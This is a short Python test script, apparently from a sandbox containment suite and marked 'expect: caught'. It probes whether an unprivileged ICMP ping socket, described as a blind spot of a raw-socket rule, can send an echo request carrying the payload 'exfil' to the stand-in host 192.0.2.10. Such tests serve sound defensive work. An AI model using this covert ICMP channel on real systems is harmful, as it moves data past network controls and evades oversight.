# category: network
# expect: caught
# goal: an unprivileged ICMP "ping" socket (SOCK_DGRAM, IPPROTO_ICMP), the raw
#       socket rule's blind spot, sending an echo request outside
import socket
import struct
import hostile as h

h.bound(5)
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
except OSError as e:
    h.blocked("namespace", "ping socket: %s (ping_group_range excludes the cell)" %
              h.ename(e.errno))
try:
    s.sendto(struct.pack(">BBHHH", 8, 0, 0, 1, 1) + b"exfil", ("192.0.2.10", 0))
except OSError as e:
    h.blocked(*h.net_error(e.errno, "ping 192.0.2.10"))
h.achieved("an ICMP echo left for 192.0.2.10")
